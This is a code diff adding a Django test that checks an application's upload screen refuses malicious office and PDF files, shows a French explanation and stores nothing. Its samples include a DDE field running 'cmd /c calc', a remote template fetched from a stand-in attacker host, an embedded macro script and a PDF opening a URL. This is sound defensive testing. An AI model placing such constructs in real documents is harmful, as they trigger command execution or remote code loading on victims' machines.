@@ -6,10 +6,13 @@ import io
 import struct
 import zipfile
 import zlib
+from pathlib import Path
 
 import pytest
+from django.conf import settings
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.urls import reverse
 from django.utils import translation
 
 from applications import active_content
@@ -17,6 +20,8 @@ from applications.active_content import office as office_rules
 from applications.active_content import pdf as pdf_rules
 from applications.demo_stages import assemble_pdf
 from applications.filecheck import check_upload
+from applications.models import Attachment
+from tests.applications.carrier_support import carrier_with_draft
 
 MAX = 10 * 1024 * 1024
 ACCEPTED = ["pdf", "docx", "xlsx", "odt", "ods"]
@@ -822,3 +827,32 @@ def test_pdf_object_nesting_beyond_the_limit_is_refused(monkeypatch):
     writer = pdf_writer()
     writer._root_object[NameObject("/Deep")] = nested
     assert_refused("statuts.pdf", written(writer), "too_complex", "trop complexe")
+
+
+# --------------------------------------------------------------------------------------------
+# Through the carrier's upload screen: refused with the message, nothing stored
+# --------------------------------------------------------------------------------------------
+def screen_samples():
+    return [
+        ("rapport.docx", ["docx"], docx(body=field([" DD", "EAUTO cmd /c calc"])), "champs ou des liaisons DDE"),
+        ("rapport.docx", ["docx"], settings_rels(f"<Relationship Id='r' Type='{R}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>"), "modèle distant"),
+        ("budget.ods", ["ods"], odf(ODS, extra={"Scripts/python/run.py": "import os"}), "contient des macros"),
+        ("statuts.pdf", ["pdf"], pdf_opening_with({"/S": "/URI", "/URI": "https://evil.example/"}), "adresse internet"),
+    ]  # fmt: skip
+
+
+@pytest.mark.django_db
+def test_refused_files_are_explained_on_the_upload_screen_and_nothing_is_stored(client, ami_call):
+    carrier, application = carrier_with_draft(ami_call)
+    client.force_login(carrier)
+    document = ami_call.required_documents.get(position=1)
+    url = reverse("applications:upload", kwargs={"public_id": application.public_id, "document_id": document.pk})
+    for name, accepted, content, words in screen_samples():
+        document.accepted_types = accepted
+        document.save()
+        response = client.post(url, {f"doc{document.pk}-file": SimpleUploadedFile(name, content)})
+        html = response.content.decode().replace("&#x27;", "'")
+        assert response.status_code == 200 and words in html, name
+    assert not Attachment.objects.exists()
+    root = Path(settings.MEDIA_ROOT)
+    assert not root.exists() or not [path for path in root.rglob("*") if path.is_file()]
